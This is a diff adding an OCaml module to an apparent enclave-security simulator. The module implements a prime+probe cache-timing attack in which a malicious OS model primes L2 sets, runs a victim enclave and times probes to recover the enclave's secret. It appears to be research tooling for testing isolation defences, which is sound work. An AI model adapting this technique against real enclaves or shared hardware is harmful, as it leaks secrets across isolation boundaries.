@@ -1,0 +1,161 @@
+module Hw = Sanctorum_hw
+module Os = Sanctorum_os.Os
+module Testbed = Sanctorum_os.Testbed
+
+let recommended_l2 =
+  { Hw.Cache.default_l2 with Hw.Cache.sets = 256; ways = 2 }
+
+type outcome = {
+  secret : int;
+  timings : int array;
+  guess : int;
+  spread : int;
+  leaked : bool;
+}
+
+let line = 64
+let page = Hw.Phys_mem.page_size
+
+(* Straight-line bare-mode program execution on [core]; the code lives
+   at a pre-chosen staging address. *)
+let run_flat os ~core ~code_paddr ~program ~fuel =
+  let machine = Os.machine os in
+  let c = Hw.Machine.core machine core in
+  let code = Hw.Isa.encode_program program in
+  Os.os_write os ~paddr:code_paddr code;
+  Hw.Machine.reset_core_state c;
+  c.Hw.Machine.satp_root <- None;
+  c.Hw.Machine.pc <- Int64.of_int code_paddr;
+  c.Hw.Machine.halted <- false;
+  ignore (Hw.Machine.run machine ~core ~fuel)
+
+let nop_pad instrs target =
+  instrs @ List.init (max 0 (target - List.length instrs)) (fun _ -> Hw.Isa.nop)
+
+(* A staging page whose cache lines stay clear of the candidate sets —
+   the attacker must not evict its own primed lines with instruction
+   fetches or result stores. *)
+let alloc_page_avoiding os ~sets ~bad_lo ~bad_span =
+  let in_bad set =
+    let d = (set - bad_lo + sets) mod sets in
+    d < bad_span
+  in
+  let rec go tries =
+    let p = Os.alloc_staging os ~bytes:page in
+    let first = p / line mod sets in
+    (* a full page spans 64 consecutive sets *)
+    let page_lines = page / line in
+    let overlap = ref false in
+    for i = 0 to page_lines - 1 do
+      if in_bad ((first + i) mod sets) then overlap := true
+    done;
+    if (not !overlap) || tries > 16 then p else go (tries + 1)
+  in
+  go 0
+
+let run (tb : Testbed.t) ~secret ?(candidates = 8) () =
+  if secret < 0 || secret >= candidates then Error "secret out of range"
+  else begin
+    let os = tb.Testbed.os in
+    let l2 = Hw.Machine.l2 tb.Testbed.machine in
+    let cfg = Hw.Cache.config l2 in
+    let sets = cfg.Hw.Cache.sets and ways = cfg.Hw.Cache.ways in
+    let period = sets * line in
+    (* The victim: one load whose line index is its secret. *)
+    let evbase = 0x100000 in
+    let open Hw.Isa in
+    let victim_prog =
+      li t0 (evbase + page + (secret * line))
+      @ [ Load (Ld, t1, t0, 0); Op_imm (Add, a7, zero, 1); Ecall ]
+    in
+    let image = Sanctorum.Image.of_program ~evbase victim_prog in
+    match Os.install_enclave os image with
+    | Error e -> Error (Sanctorum.Api_error.to_string e)
+    | Ok inst -> begin
+        let eid = inst.Os.eid and tid = List.hd inst.Os.tids in
+        (* The OS allocated the enclave's memory, so it knows exactly
+           where the data page landed: pages are consumed in ascending
+           order — tables, then code, then data. *)
+        let paddrs = Malicious_os.enclave_paddrs os ~eid in
+        let tables = List.length (Sanctorum.Image.required_page_tables image) in
+        let data_paddr = List.nth paddrs (tables + 1) in
+        let target_set s = (data_paddr / line + s) mod sets in
+        (* Attacker buffer: [ways] congruent lines per candidate set. *)
+        let raw = Os.alloc_staging os ~bytes:(((ways + 1) * period) + page) in
+        let buf = Sanctorum_util.Bits.align_up raw period in
+        let probe_addr s w = buf + (w * period) + (target_set s * line) in
+        let bad_lo = target_set 0 and bad_span = candidates in
+        let results = alloc_page_avoiding os ~sets ~bad_lo ~bad_span in
+        let prime_code = alloc_page_avoiding os ~sets ~bad_lo ~bad_span in
+        let probe_code = alloc_page_avoiding os ~sets ~bad_lo ~bad_span in
+        (* Prime: touch every candidate line. *)
+        let prime =
+          List.concat_map
+            (fun s ->
+              List.concat_map
+                (fun w -> li t0 (probe_addr s w) @ [ Load (Ld, t1, t0, 0) ])
+                (List.init ways Fun.id))
+            (List.init candidates Fun.id)
+          @ [ Ecall ]
+        in
+        run_flat os ~core:0 ~code_paddr:prime_code ~program:prime ~fuel:4096;
+        (* Victim round: entering the enclave flushes L1/TLB but the
+           (possibly partitioned) LLC keeps the primed lines. *)
+        (match Os.run_enclave os ~eid ~tid ~core:0 ~fuel:4096 () with
+        | Ok _ | Error _ -> ());
+        (* Each candidate's block is padded to whole 64-byte code lines
+           so instruction-fetch misses cost every block equally. *)
+        let block s =
+          let body =
+            [ Csr_read_cycle t2 ]
+            @ List.concat_map
+                (fun w -> li t0 (probe_addr s w) @ [ Load (Ld, t1, t0, 0) ])
+                (List.init ways Fun.id)
+            @ [ Csr_read_cycle t3; Op (Sub, t3, t3, t2) ]
+            @ li t4 (results + (s * 8))
+            @ [ Store (Sd, t3, t4, 0) ]
+          in
+          let instrs_per_line = line / 4 in
+          let target =
+            (List.length body + instrs_per_line - 1)
+            / instrs_per_line * instrs_per_line
+          in
+          nop_pad body target
+        in
+        let probe =
+          List.concat_map block (List.init candidates Fun.id) @ [ Ecall ]
+        in
+        run_flat os ~core:0 ~code_paddr:probe_code ~program:probe ~fuel:8192;
+        let timings =
+          Array.init candidates (fun s ->
+              Int64.to_int
+                (Sanctorum_util.Bytesx.get_u64_le
+                   (Os.os_read os ~paddr:(results + (s * 8)) ~len:8)
+                   0))
+        in
+        let guess = ref 0 and best = ref timings.(0) and worst = ref timings.(0) in
+        Array.iteri
+          (fun i v ->
+            if v > !best then begin
+              best := v;
+              guess := i
+            end;
+            if v < !worst then worst := v)
+          timings;
+        let spread = !best - !worst in
+        Ok
+          {
+            secret;
+            timings;
+            guess = !guess;
+            spread;
+            leaked = spread > 30 && !guess = secret;
+          }
+      end
+  end
+
+let pp_outcome ppf o =
+  Format.fprintf ppf "secret=%d guess=%d spread=%d leaked=%b timings=[" o.secret
+    o.guess o.spread o.leaked;
+  Array.iter (fun v -> Format.fprintf ppf " %d" v) o.timings;
+  Format.fprintf ppf " ]"
